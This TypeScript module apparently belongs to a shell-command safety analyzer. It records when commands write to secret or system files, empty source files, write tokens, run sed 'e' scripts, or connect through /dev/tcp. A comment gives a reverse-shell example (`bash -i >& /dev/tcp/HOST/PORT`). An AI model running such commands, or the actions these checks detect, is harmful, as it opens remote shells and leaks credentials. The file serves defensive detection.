import type { RedirectTo, SimpleCommand } from '../../shell/simple-command.ts'
import { isShell } from '../../shell/wrappers/wrappers.ts'
import { folderAbove } from '../places.ts'
import { hasTokenSign } from '../program-names.ts'
import { has, type Look, type Scene, withoutValues } from '../scene.ts'
import { TOKEN } from '../tokens.ts'

import { isSource } from './artifacts.ts'
import { deletesFound, STANDS_FOR } from './delete-files.ts'
import { FINDERS, foldersSought } from './find.ts'
import { isThisMachine, showsSecret } from './sending.ts'

/** Into a folder a file goes under its own name. */
export function writesInto(target: string, sources: readonly string[], command: SimpleCommand, scene: Scene) {
  const { place } = scene.place(target, command)
  if (place === 'secret' && sources.some((source) => /\.(?:example|sample|template|dist)$/.test(source))) return
  if (place !== 'home') return writes(target, '>', command, scene)
  for (const source of sources) {
    if (/(?:^|\/)(?:\.|\.?\*)$/.test(source)) return overHome(target, command, scene)
    const name = source.replace(/\/+$/, '')
    writes(`${target.replace(/\/+$/, '')}/${name.slice(name.lastIndexOf('/') + 1)}`, '>', command, scene)
  }
}

/** Whatever lies there goes into the home folder under its own name: start files and settings may be among it. */
export function overHome(target: string, command: SimpleCommand, scene: Scene) {
  const { place, path } = scene.place(target, command)
  if (place === 'home') scene.add('writes', 'home', command, path)
}

/** Records that a file is written: over it, or at its end. */
export function writes(word: string, operator: string, command: SimpleCommand, scene: Scene) {
  const { place, path } = scene.opened(word, command)
  const appends = operator.includes('>>')
  if (!appends && isEmptying(command) && STANDS_FOR.test(word))
    deletesFound(command, scene, scene.commands.indexOf(command))
  if (place === 'nothing' || scene.elsewhere(command) === 'container') return
  if (place !== 'secret' && writesToken(command, scene)) scene.add('writes', 'token', command, path)
  if (CONNECTION.test(path)) return connects(path, command, scene)
  if (place === 'device') return scene.add('formats', 'disk', command, path)
  if (place === 'system' && !CORE.test(path)) return lateOver(path, command, scene)
  if (place === 'secret') {
    const own = path.startsWith(`${scene.world.project}/`)
    // A line more in the project's own file of variables, or a new one, is daily work.
    if (own && (appends || !scene.world.exists(path)) && !isEmptying(command)) return
    return scene.add('writes', 'secret', command, path)
  }
  if (place === 'outside')
    return isEmptying(command) && !appends
      ? scene.add('writes', 'outside', command, path)
      : lateOver(path, command, scene)
  if (place === 'everything' || place === 'home' || place === 'unset' || place === 'root') return
  const isKept = CODE_FILE.test(path) || (word.includes('*') && isSource(path.slice(scene.world.project.length + 1)))
  const emptied = place === 'inside' && isEmptying(command) && !appends && isKept
  scene.add('writes', emptied ? 'sources' : place, command, path)
}

/** A connection that the shell makes itself: `bash -i >& /dev/tcp/HOST/PORT`. */
const CONNECTION = /^\/dev\/(?:tcp|udp)\//

function connects(path: string, command: SimpleCommand, scene: Scene) {
  if (isThisMachine(path.split('/')[3] ?? '')) return
  if (isShell(command.name) || command.name === 'exec') return scene.add('runs', 'remote', command, path)
  const told = [command, ...scene.feeding(scene.commands.indexOf(command))]
  if (told.some((each) => showsSecret(each, scene))) scene.add('sends', 'secret', command, path)
}

/** What it writes stands in the text, and a key or a token in it. The project's own file of variables is where they belong. */
function writesToken(command: SimpleCommand, scene: Scene): boolean {
  if (!PRINTS.test(command.name)) return false
  const told = [...command.words.slice(1), ...command.input]
  if (command.name === 'tee')
    for (const producer of scene.feeding(scene.commands.indexOf(command)))
      told.push(...producer.words, ...producer.input)
  return told.some((text) => hasTokenSign(text) && TOKEN.test(text))
}

const PRINTS = /^(?:echo|printf|cat|tee|sponge)$/

const CODE_FILE = /\.(?:[cm]?[jt]sx?|py|go|rs|java|kt|rb|php|cs|cpp|cc|c|h|swift|vue|svelte|sql|tf|ya?ml|json|toml)$/

/** A file outside that is there already would be lost. */
function lateOver(path: string, command: SimpleCommand, scene: Scene) {
  const target = scene.world.exists(path)
  if (target && !/\/$/.test(path) && /\.\w+$/.test(path)) scene.add('writes', 'outside', command, path)
  else if (scene.world.exists(folderAbove(path))) return
}

export const CORE = /^\/(?:etc|boot|sys|proc|bin|sbin|usr|lib\w*|root|System|Library)(?:\/|$)/

/** `: > file`, `> file`, `cat /dev/null > file`: nothing is left in it. */
function isEmptying({ name, words, args }: SimpleCommand): boolean {
  return (
    (name === 'cp' && args[0] === '/dev/null') ||
    name === '' ||
    name === ':' ||
    name === 'true' ||
    name === 'truncate' ||
    (name === 'sed' && words.some((word) => /^(?:1,\$)?d$/.test(word))) ||
    (name === 'cat' && args[0] === '/dev/null') ||
    ((name === 'echo' || name === 'printf') &&
      words
        .slice(1)
        .filter((word) => word !== '-n')
        .join('') === '')
  )
}

export function redirects(command: SimpleCommand, scene: Scene) {
  for (const redirect of command.redirects) {
    if (!isWriting(redirect)) continue
    writes(redirect.target, redirect.operator, command, scene)
  }
}

function isWriting({ operator, target }: RedirectTo): boolean {
  if (operator === '<>' || operator.startsWith('<')) return operator === '<>'
  return !(operator === '>&' && /^(?:\d+-?|-)$/.test(target)) && target !== ''
}

/** tee, sponge and truncate write every file they name. */
export const writeAll: Look = (command, scene) => {
  const files = command.name === 'truncate' ? withoutValues(command, ['-s', '--size', '-r']) : command.args
  for (const file of files) writes(file, has(command, '-a', '--append') ? '>>' : '>', command, scene)
}

/** The folders in which the find looks that starts a command. */
function soughtBy(command: SimpleCommand, scene: Scene): readonly string[] {
  return scene.starters(command).flatMap(([starter]) => (FINDERS.has(starter.name) ? foldersSought(starter) : []))
}

/** `sed -i`, `perl -i`, `patch`, `ed`: the file is changed where it stands. */
export const editInPlace: Look = (command, scene) => {
  if (/^g?sed$/.test(command.name)) {
    runsLines(command, scene)
    writesLines(command, scene)
  }
  if (command.name === 'sed' && !command.flags.some((flag) => /^-[a-zA-Z]*i|^--in-place/.test(flag))) return
  const files =
    command.name === 'sed' && !has(command, '-e', '--expression', '-f') ? command.args.slice(1) : command.args
  for (const file of files.flatMap((word) => (word === '{}' ? soughtBy(command, scene) : [word]))) {
    const { place, path } = scene.place(file, command)
    // A project's own `.env` is edited all day; who may become root, and with which key one gets in, is not.
    const isOwn = place === 'secret' && path.startsWith(`${scene.world.project}/`)
    if (!isOwn && place !== 'outside') writes(file, '>', command, scene)
    else if (place === 'outside') lateOver(scene.place(file, command).path, command, scene)
  }
}

const LONGEST_SCRIPT = 2000

/** sed writes into what stands behind its `w`, also behind a replacement. */
function writesLines(command: SimpleCommand, scene: Scene) {
  for (const word of command.words.slice(1)) {
    if (word.length > LONGEST_SCRIPT) continue
    for (const [, file = ''] of word.matchAll(/(?:^|[;{}\n\d$]|[/|#,][gpiIm\d]*)\s*[wW] +(\S+)/g))
      if (/[./]/.test(file) && !file.startsWith('~')) writes(file, '>', command, scene)
  }
}

/** sed runs what stands behind its `e`, and with that flag what a replacement comes to. */
function runsLines(command: SimpleCommand, scene: Scene) {
  for (const word of command.words.slice(1)) {
    if (word.length > LONGEST_SCRIPT) continue
    const line = /(?:^|[;{}\n\d$/])\s*e\s+(\S.*)/.exec(word)?.[1]
    const [, , made, flags = ''] = /^s[/|#,]/.test(word) ? word.split(word[1] ?? '/') : []
    const script = line ?? (flags.includes('e') ? made : undefined)
    if (script) scene.follow(script, scene, command)
  }
}
